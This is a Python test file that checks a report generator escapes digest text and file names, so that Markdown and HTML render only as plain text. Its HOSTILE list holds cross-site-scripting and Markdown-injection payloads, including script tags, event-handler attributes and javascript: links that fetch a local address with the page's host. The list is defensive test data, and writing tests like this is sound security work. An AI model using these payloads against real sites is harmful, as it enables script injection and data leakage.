"""Text of digests and names of files in artifacts: rendered as Markdown it stays text."""

import re
from datetime import UTC, date, datetime
from html.parser import HTMLParser

import pytest
from markdown_it import MarkdownIt

from paperhouse.flows.load.summary import Summary
from paperhouse.flows.output import artifacts
from paperhouse.flows.output.chart import papers_per_day_svg
from paperhouse.flows.output.coverage_report import gap_rows
from paperhouse.flows.output.health import judge
from paperhouse.flows.output.index_page import MorningNews, index_markdown
from paperhouse.flows.output.load_report import load_markdown
from paperhouse.flows.output.markup import escape_markdown, fence_lines
from paperhouse.warehouse.read.arrivals import DigestDay
from paperhouse.warehouse.read.coverage import Coverage, CoverageDay
from paperhouse.warehouse.read.load_report import DayCount, ListArrival, LoadArrivals, NewPaper
from paperhouse.warehouse.read.overview import Overview, SourceHealth

HOSTILE = [
    "![x](http://127.0.0.1:9555/img)",
    "[see the paper](javascript:fetch('http://127.0.0.1:9555/pwn?'+location.host))",
    "<b onclick=fetch('http://127.0.0.1:9555/onclick')>b</b>",
    '<b onclick="alert(1)">b</b>',
    "<svg><image href=http://127.0.0.1:9555/svgimg /></svg>",
    "<details open ontoggle=fetch('http://127.0.0.1:9555/toggle')>d</details>",
    "<img src=x onerror=alert(1)>",
    "<script>alert(1)</script>",
    "<http://127.0.0.1:9555/auto>",
    "http://127.0.0.1:9555/bare and www.example.com/bare and someone@example.com",
    "![x][1]\n\n[1]: http://127.0.0.1:9555/reference",
    "a | ![x](http://127.0.0.1:9555/cell) | b\n| --- |\n",
    "\\![x](http://127.0.0.1:9555/backslash) \\\\[y](javascript:alert(1)) \\<img src=x>",
    "`code` ``` ~~~ **bold** _it_ ~~gone~~",
    "```\n<img src=x>\n```\n![x](http://127.0.0.1:9555/fence)",
    "&lt;img src=x&gt; &#33;&#91;x](http://127.0.0.1:9555/entity)",
    "# heading\r\n> quote\u2028<img src=x>",
    "\x00![x](http://127.0.0.1:9555/nul)\x1b[2J",
    "    ![indented](http://127.0.0.1:9555/indented)",
    "- item",
    "+ item",
    "1. item",
    "12) item",
    "---",
    "===",
]
OURS = frozenset({"h1", "h2", "p", "table", "thead", "tbody", "tr", "th", "td", "ul", "li"})
"""Elements that an artifact has by itself."""


class Elements(HTMLParser):
    """Names of the elements of a page, addresses of its links and images, and its text."""

    def __init__(self, markdown: str) -> None:
        super().__init__()
        self.names: list[str] = []
        self.addresses: list[str] = []
        self.text = ""
        # With HTML, as the UI's renderer has it.
        renderer = MarkdownIt("gfm-like", {"html": True, "linkify": False})
        renderer.validateLink = lambda _: True  # the UI's renderer lets `javascript:` through
        self.feed(renderer.render(markdown))

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.names.append(tag)
        self.addresses += [value or "" for name, value in attrs if name in {"href", "src"}]

    def handle_data(self, data: str) -> None:
        self.text += data


def health(text: str) -> SourceHealth:
    return SourceHealth(text, text, 2, 0, date(2025, 4, 30), 1.0, 0, 20.0, 0, True, True, False)  # noqa: FBT003


def test_unescaped_texts_do_become_elements():
    found = {name for text in HOSTILE for name in Elements(text).names}
    assert {
        "img",
        "script",
        "a",
        "b",
        "svg",
        "details",
        "h1",
        "blockquote",
        "code",
        "ol",
        "ul",
        "hr",
    } <= found


@pytest.mark.parametrize("text", HOSTILE)
def test_a_text_is_one_paragraph_that_shows_what_it_says(text):
    page = Elements(escape_markdown(text))
    assert page.names == ["p"]
    kept = "".join(character for character in text if character.isprintable() and not character.isspace())
    shown = "".join(page.text.split()).replace("\\x00", "").replace("\\x1b", "")
    assert shown == kept


@pytest.mark.parametrize("text", HOSTILE)
def test_no_address_is_left_that_renderers_make_links_of(text):
    escaped = escape_markdown(text)
    assert not re.search(r"\w://", escaped)
    assert "www." not in escaped
    assert "e@e" not in escaped
    assert "\n" not in escaped


def test_plain_titles_stay_as_they_are():
    title = "Retrieval-Augmented Generation: 3.5 x faster, 2504.00091"
    assert escape_markdown(title) == title
    assert not escape_markdown(None)


@pytest.mark.parametrize("text", HOSTILE)
def test_the_summary_of_a_load_shows_texts_of_digests_as_text(text):
    summary = Summary(home="data", load_id="x", n_digests=1, warnings=[text], notices=[text], n_papers_new=1)
    markdown = load_markdown(summary, [health(text)], [NewPaper("2504.00091", text, text, (text, text))])
    page = Elements(markdown)
    assert page.addresses == ["https://arxiv.org/abs/2504.00091"]
    assert set(page.names) == OURS | {"a"}
    assert page.names.count("td") == 2 * 10 + 4 + 3  # counts, the new paper, the health of a source


@pytest.mark.parametrize("text", HOSTILE)
def test_the_index_shows_texts_of_digests_and_names_of_files_as_text(text):
    overview = Overview(
        path=text,
        n_bytes=1,
        generation=1,
        tables={"papers": 1},
        last_load={"finished_at": datetime(2025, 5, 1, tzinfo=UTC), "load_id": "x"},
        last_digest_date=date(2025, 4, 30),
        rejects={},
        n_ids_unaccounted=0,
        missing_packages=(text,),
        sources=(health(text),),
        days=(DigestDay(text, text, date(2025, 4, 30), 3),),
    )
    page = Elements(
        index_markdown(
            MorningNews(
                health=judge(overview, datetime(2025, 5, 1, tzinfo=UTC), 36),
                headline=text,
                arrivals=LoadArrivals((ListArrival(text, text, 1, 2, 3),), 2, {text: 3}),
                charts=[(text, "data:image/svg+xml;base64,eA==")],
                run_id="0-1",
                site="http://127.0.0.1:9555/a)b<c>",
            )
        )
    )
    site = "http://127.0.0.1:9555/a%29b%3Cc%3E"
    assert page.names.count("img") == 1
    assert page.addresses.count(site) == 1
    assert all(
        address.startswith(("/artifacts/", "/runs", "data:image/svg")) or address == site
        for address in page.addresses
    )
    assert set(page.names) <= OURS | {"a", "img", "strong", "code", "h1"}


@pytest.mark.parametrize("text", HOSTILE)
def test_cells_of_table_artifacts_show_text_as_text(text, monkeypatch, tmp_path):
    reject = {"path": text, "line_start": 1, "line_end": 2, "reason": text, "text": text}
    monkeypatch.setattr(artifacts, "load_rejects", lambda *_: [reject])
    gap = CoverageDay(date(2025, 4, 30), text, 5, 0, 1, 4, 0, 0, None, (text,), "no_digest", (text,), "feed")
    rows = [*artifacts.reject_rows(tmp_path, "x"), *artifacts._health_rows([health(text)])]
    rows += gap_rows(Coverage((gap,)))
    for cell in (cell for row in rows for cell in row.values() if cell):
        assert Elements(cell).names == ["p"]


@pytest.mark.parametrize("text", HOSTILE)
def test_lines_between_fences_cannot_leave_them(text):
    page = Elements("\n".join(["# x", *fence_lines([text, "warehouse  data"]), "* end"]))
    assert page.names == ["h1", "pre", "code", "ul", "li"]


def test_names_in_a_drawing_are_text_and_leave_it_well_formed():
    from xml.etree import ElementTree as ET

    counts = [DayCount(date(2025, 4, 30), text, 3) for text in HOSTILE]
    for count in counts:
        tree = ET.fromstring(papers_per_day_svg([count]))
        assert {node.tag.rpartition("}")[2] for node in tree.iter()} == {
            "svg",
            "rect",
            "text",
            "line",
            "title",
        }
